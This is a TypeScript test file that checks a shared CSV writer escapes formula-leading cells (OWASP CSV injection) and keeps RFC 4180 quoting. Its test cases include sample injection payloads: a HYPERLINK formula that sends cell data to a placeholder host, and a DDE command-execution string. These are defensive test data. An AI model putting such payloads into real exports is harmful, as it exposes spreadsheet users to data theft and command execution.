// The shared CSV writer (src/domain/csv.ts): OWASP "CSV Injection" — a cell beginning with = + - @,
// tab or carriage return is prefixed with a single quote; RFC 4180 quoting is kept (quotes doubled,
// fields with a comma, quote or line break quoted); numbers handed over as numbers stay numerics.
// And no other module writes CSV: csv-stringify is imported by the shared writer only.
import { readdirSync, readFileSync, statSync } from "node:fs";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, test } from "vitest";
import { toCsv, type CsvCell } from "@/domain/csv";

/** One cell as it appears in the file, between the BOM and the CRLF. */
const written = (cell: CsvCell) =>
  toCsv([[cell]])
    .toString("utf8")
    .slice(1)
    .replace(/\r\n$/, "");

describe("cells that would start a formula are neutralised (OWASP CSV Injection)", () => {
  test.each([
    [
      "= HYPERLINK, its quotes doubled and the cell quoted",
      '=HYPERLINK("http://x.example/?d="&A1,"Bấm")',
      `"'=HYPERLINK(""http://x.example/?d=""&A1,""Bấm"")"`,
    ],
    ["= arithmetic", "=1+1", "'=1+1"],
    ["+ leading", "+84 912 345 678", "'+84 912 345 678"],
    ["- leading text", "-2+3", "'-2+3"],
    ["- text that looks like a number", "-5", "'-5"],
    ["@ leading", "@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["tab leading", "\t=1+1", "'\t=1+1"],
    ["carriage return leading: prefixed and quoted, it holds a line break", "\r=1+1", `"'\r=1+1"`],
    ["full-width = (folded by some spreadsheets)", "＝1+1", "'＝1+1"],
    ["DDE payload", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ] as const)("%s", (_label, cell, expected) => {
    expect(written(cell)).toBe(expected);
  });
});

describe("everything else is written as before (RFC 4180)", () => {
  test.each([
    ["plain Vietnamese text", "Đồng ý, đề nghị làm sớm", '"Đồng ý, đề nghị làm sớm"'],
    ["a formula character later in the cell", "Tổng = 5 hộ", "Tổng = 5 hộ"],
    ["a quote inside", 'Mở rộng "đường"', '"Mở rộng ""đường"""'],
    ["a single quote already leading", "'=x", "'=x"],
    ["a line break then a formula stays one quoted cell", "ok\n=HYPERLINK(1)", '"ok\n=HYPERLINK(1)"'],
    ["a lone carriage return is quoted too", "dòng 1\rdòng 2", '"dòng 1\rdòng 2"'],
    ["a number", 42, "42"],
    ["a negative number passed as a number is data", -5, "-5"],
    ["a decimal", 66.7, "66.7"],
    ["empty text", "", ""],
    ["null", null, ""],
    ["undefined", undefined, ""],
  ] as const)("%s", (_label, cell, expected) => {
    expect(written(cell)).toBe(expected);
  });

  test("a UTF-8 BOM, CRLF records, and it reads back as the cells (with their quote prefix)", () => {
    const bytes = toCsv([
      ["Mã hộ", "Góp ý"],
      ["D001", '=HYPERLINK("http://x","y")'],
      ["D002", "dòng 1\r\ndòng 2"],
    ]);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString("utf8");
    expect(text.endsWith("\r\n")).toBe(true);
    expect(parse(text, { bom: true })).toEqual([
      ["Mã hộ", "Góp ý"],
      ["D001", `'=HYPERLINK("http://x","y")`],
      ["D002", "dòng 1\r\ndòng 2"],
    ]);
  });
});

describe("one writer", () => {
  const files = (dir: string): string[] =>
    readdirSync(dir).flatMap((n) => {
      const p = path.join(dir, n);
      return statSync(p).isDirectory()
        ? p.includes("generated")
          ? []
          : files(p)
        : /\.(ts|tsx|mjs)$/.test(n)
          ? [p]
          : [];
    });

  test("only src/domain/csv.ts imports csv-stringify", () => {
    const writers = [...files("src"), ...files("scripts")].filter((f) =>
      /from "csv-stringify/.test(readFileSync(f, "utf8")),
    );
    expect(writers).toEqual([path.join("src", "domain", "csv.ts")]);
  });
});
